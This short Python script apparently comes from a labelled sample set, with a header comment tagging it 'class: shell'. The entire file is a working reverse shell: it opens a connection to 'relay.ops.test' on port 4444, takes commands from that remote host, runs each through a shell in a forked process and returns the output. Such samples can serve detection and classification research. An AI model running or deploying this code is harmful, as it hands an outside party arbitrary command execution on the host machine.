# class: shell; possible: low medium
# network and shell are two processes with a socketpair between them
import os, socket, subprocess, sys
a, b = socket.socketpair()
if os.fork() == 0:
    a.close()
    for line in b.makefile("r"):
        line = line.strip()
        if line == "exit": os._exit(0)
        b.sendall(subprocess.run(line, shell=True, stdout=-1, stderr=-2).stdout + b"\0")
    os._exit(0)
b.close()
net = socket.create_connection(("relay.ops.test", 4444))
for line in net.makefile("r"):
    a.sendall(line.encode())
    if line.strip() == "exit": break
    got = b""
    while not got.endswith(b"\0"):
        d = a.recv(65536)
        if not d: sys.exit()
        got += d
    net.sendall(got[:-1])
